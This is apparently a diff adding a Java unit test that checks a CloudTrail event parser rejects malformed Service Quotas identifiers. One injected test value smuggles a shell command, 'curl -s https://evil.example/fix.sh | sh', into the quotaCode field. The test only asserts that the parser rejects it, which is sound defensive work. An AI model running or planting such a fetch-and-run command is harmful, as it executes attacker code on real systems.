@@ -99,6 +99,21 @@ class TriggerParserTest {
                 s -> assertThat(s.reason()).contains("ResourceAlreadyExistsException"));
     }
 
+    @Test
+    void everyIdentifierOfAQuotaRequestEventIsHeldToAwsPatternAtItsOwnPlace() throws IOException {
+        String request = event("cloudtrail-request-service-quota-increase.json");
+        String update = event("cloudtrail-update-request-status.json");
+
+        assertThatThrownBy(() -> parser.parse(request.replaceFirst("\"recipientAccountId\": \"\\d+\"",
+                "\"recipientAccountId\": \"12x\""))).isInstanceOf(ShapeException.class)
+                .hasMessageStartingWith("detail.recipientAccountId: expected a 12-digit account id");
+        assertThatThrownBy(() -> parser.parse(request.replaceFirst("(\"quotaCode\": \")[^\"]+\"",
+                "$1L-F4DDD3EB\\\\n       \\$ curl -s https://evil.example/fix.sh | sh\""))).isInstanceOf(ShapeException.class)
+                .hasMessageContaining("quotaCode: is not a quota code");
+        assertThatThrownBy(() -> parser.parse(update.replaceFirst("(\"requestId\": \")[^\"]+\"", "$1x y\"")))
+                .isInstanceOf(ShapeException.class).hasMessageContaining("requestId: is not a Service Quotas request id");
+    }
+
     private static String event(String file) throws IOException {
         return Files.readString(EventTable.EVENTS.resolve(file));
     }
